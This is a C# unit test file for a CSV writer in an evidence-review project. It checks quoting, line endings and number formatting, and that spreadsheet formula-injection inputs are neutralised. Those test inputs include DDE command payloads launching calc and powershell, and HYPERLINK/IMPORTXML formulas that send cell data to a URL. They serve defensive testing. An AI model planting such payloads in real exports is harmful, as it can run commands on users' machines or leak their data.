using System.Globalization;
using LivingReview.EvidenceFiles.Writing;

namespace LivingReview.EvidenceFiles.Tests.Writing;

public sealed class CsvTableTests
{
    [Fact]
    public void Cells_are_quoted_where_they_must_be_and_rows_end_with_CRLF()
    {
        var csv = new CsvTable("a", "b").Row("one, two", "say \"so\"").Row("two\nlines", null);

        Assert.Equal("a,b\r\n\"one, two\",\"say \"\"so\"\"\"\r\n\"two\nlines\",\r\n", csv.ToString());
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+9)*cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://example.org?x=\"&A1,\"error\")")]
    [InlineData("=IMPORTXML(CONCAT(\"http://example.org?v=\",A1),\"//a\")")]
    [InlineData("=cmd|'/C powershell'!A0")]
    [InlineData("|1+1")]
    [InlineData("%0A=1+1")]
    [InlineData("\tx")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData("＝1+1")]
    public void A_text_that_looks_like_a_formula_is_made_harmless(string text) =>
        Assert.Contains("'" + text.Replace("\"", "\"\"", StringComparison.Ordinal), new CsvTable("a").Row(text).ToString(), StringComparison.Ordinal);

    [Theory]
    [InlineData("-2.5")]
    [InlineData("+1")]
    [InlineData("-1e-9")]
    public void A_number_as_text_is_not_a_formula(string text) => Assert.Equal($"a\r\n{text}\r\n", new CsvTable("a").Row(text).ToString());

    [Fact]
    public async Task The_readers_give_back_the_text_that_was_guarded()
    {
        string[] texts = ["=1+1", "+T-score", "-2.5 T or less", "@home", "'quoted'", "it's"];
        var csv = new CsvTable("study", "TP", "FP", "FN", "TN", "note");
        foreach (var (number, text) in texts.Index()) csv.Row(string.Create(CultureInfo.InvariantCulture, $"Study {number}"), 9L, 1L, 2L, 8L, text);

        var read = await Read.TextAsync(csv.ToString());

        Assert.Equal(texts, read.Good.Select(row => row.Study.Tables![0].Note));
    }

    [Fact]
    public void Numbers_keep_their_sign_and_their_point_in_any_culture()
    {
        var before = CultureInfo.CurrentCulture;
        CultureInfo.CurrentCulture = new CultureInfo("") { NumberFormat = { NumberDecimalSeparator = ",", NumberGroupSeparator = ".", NegativeSign = "minus " } };
        try
        {
            Assert.Equal("a,b,c\r\n-0.25,1234,\r\n", new CsvTable("a", "b", "c").Row(-0.25, 1234L, double.NaN).ToString());
        }
        finally
        {
            CultureInfo.CurrentCulture = before;
        }
    }
}
